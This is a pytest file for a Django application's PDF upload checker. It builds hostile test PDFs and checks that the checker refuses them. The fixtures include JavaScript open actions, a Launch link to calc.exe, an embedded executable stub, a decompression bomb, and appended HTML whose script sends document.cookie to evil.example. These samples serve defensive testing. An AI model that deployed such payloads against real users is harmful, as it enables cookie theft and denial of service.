"""PDFs that can act on their own are refused with the feature named; decompression bombs and huge page counts are
refused without inflating them whole. Every malicious file is built here with pypdf."""

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from allocations.applications import pdf
from allocations.models import Attachment
from tests.factories.allocations import pdf_bytes

MB = 1024 * 1024


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    action.update({_name(f"/{k}"): v for k, v in entries.items()})
    return action


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _annotate(writer: PdfWriter, annotation: DictionaryObject) -> bytes:
    annotation.update({_name("/Type"): _name("/Annot"), _name("/Rect"): ArrayObject([NumberObject(0)] * 4)})
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _written(writer)


def open_action_javascript() -> bytes:
    writer = _writer()
    writer.root_object[_name("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert('hi')"))
    return _written(writer)


def document_javascript() -> bytes:
    from pypdf.actions import JavaScript

    writer = _writer()
    writer.add_open_action(JavaScript("this.print({bUI:true});"))
    return _written(writer)


def page_additional_actions() -> bytes:
    writer = _writer()
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): _action("/URI", URI=TextStringObject("https://x"))})
    return _written(writer)


def launch_link() -> bytes:
    return _annotate(
        _writer(),
        DictionaryObject(
            {_name("/Subtype"): _name("/Link"), _name("/A"): _action("/Launch", F=TextStringObject("calc.exe"))}
        ),
    )


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    return _written(writer)


def rich_media() -> bytes:
    return _annotate(_writer(), DictionaryObject({_name("/Subtype"): _name("/RichMedia")}))


def xfa_form() -> bytes:
    writer = _writer()
    writer.root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )
    return _written(writer)


def html_after_eof() -> bytes:
    return pdf_bytes() + b"\n<html><script>fetch('https://evil.example/'+document.cookie)</script></html>\n"


def fake_update_after_eof() -> bytes:
    """Data dressed as an incremental update: its own startxref (to the original table) and %%EOF."""
    data = pdf_bytes()
    offset = data[data.rindex(b"startxref") :].split()[1]
    return data + b"<script>alert(1)</script>\nstartxref\n" + offset + b"\n%%EOF\n"


@pytest.mark.parametrize(
    ("build", "named"),
    [
        (open_action_javascript, "(/OpenAction)"),
        (open_action_javascript, "JavaScript"),
        (document_javascript, "JavaScript"),
        (page_additional_actions, "(/AA)"),
        (launch_link, "(/Launch)"),
        (embedded_file, "embedded files"),
        (rich_media, "(/RichMedia)"),
        (xfa_form, "an XFA form"),
        (html_after_eof, "data after the end of the PDF"),
        (fake_update_after_eof, "data after the end of the PDF"),
    ],
)
def test_active_content_is_refused_with_its_name(build, named):
    data = build()
    assert len(PdfReader(io.BytesIO(data)).pages) == 1  # a valid PDF otherwise
    with pytest.raises(ValidationError) as refused:
        pdf.check_pdf(SimpleUploadedFile("a.pdf", data), max_bytes=10 * MB)
    message = refused.value.message_dict["file"][0]
    assert named in message, message
    assert "does not accept" in message


def test_plain_pdfs_an_open_at_page_destination_and_incremental_updates_pass():
    assert pdf.check_pdf(SimpleUploadedFile("a.pdf", pdf_bytes(3)), max_bytes=10 * MB)
    writer = _writer()  # LaTeX's hyperref writes /OpenAction [page /Fit]: a destination, not an action
    writer.root_object[_name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    assert pdf.check_pdf(SimpleUploadedFile("a.pdf", _written(writer)), max_bytes=10 * MB)
    updated = PdfWriter(io.BytesIO(pdf_bytes()), incremental=True)
    updated.add_metadata({"/Title": "Technical annex, revised"})
    data = _written(updated)
    assert data.count(b"%%EOF") == 2
    assert pdf.check_pdf(SimpleUploadedFile("a.pdf", data), max_bytes=10 * MB)


def test_too_many_pages_is_refused():
    with pytest.raises(ValidationError) as refused:
        pdf.check_pdf(SimpleUploadedFile("a.pdf", pdf_bytes(pdf.MAX_PAGES + 1)), max_bytes=10 * MB)
    assert refused.value.message_dict["file"] == [f"The PDF has more than {pdf.MAX_PAGES} pages."]


def decompression_bomb(inflated: int) -> bytes:
    """A page whose content stream inflates to ``inflated`` bytes of zeros (compressed about a thousand-fold)."""
    packer = zlib.compressobj(9)
    chunk = b"\0" * MB
    packed = b"".join(packer.compress(chunk) for _ in range(inflated // MB)) + packer.flush()
    writer = _writer()
    stream = DecodedStreamObject()
    stream.set_data(packed)
    stream[_name("/Filter")] = _name("/FlateDecode")
    writer.pages[0][_name("/Contents")] = writer._add_object(stream)
    return _written(writer)


def test_a_decompression_bomb_is_refused():
    bomb = decompression_bomb(pdf.MAX_DECOMPRESSED_BYTES + 16 * MB)
    assert len(bomb) < MB
    with pytest.raises(ValidationError) as refused:
        pdf.check_pdf(SimpleUploadedFile("a.pdf", bomb), max_bytes=10 * MB)
    assert refused.value.message_dict["file"] == ["The PDF unpacks to more than 256 MB."]
    small = decompression_bomb(8 * MB)
    assert pdf.check_pdf(SimpleUploadedFile("a.pdf", small), max_bytes=10 * MB)


def test_upload_of_active_content_is_400_on_the_page_and_the_api(alice_client, alice_api, draft):
    for data in (open_action_javascript(), html_after_eof()):
        response = alice_client.post(
            f"/applications/{draft.pk}/attachments/",
            {"kind": "cv", "file": SimpleUploadedFile("cv.pdf", data, content_type="application/pdf")},
        )
        assert response.status_code == 400
        assert "does not accept" in response.content.decode()
        response = alice_api.post(
            f"/api/v1/applications/{draft.pk}/attachments/",
            {"kind": "cv", "file": SimpleUploadedFile("cv.pdf", data, content_type="application/pdf")},
            format="multipart",
        )
        assert response.status_code == 400
        assert "does not accept" in response.json()["file"][0]
    assert not Attachment.objects.exists()
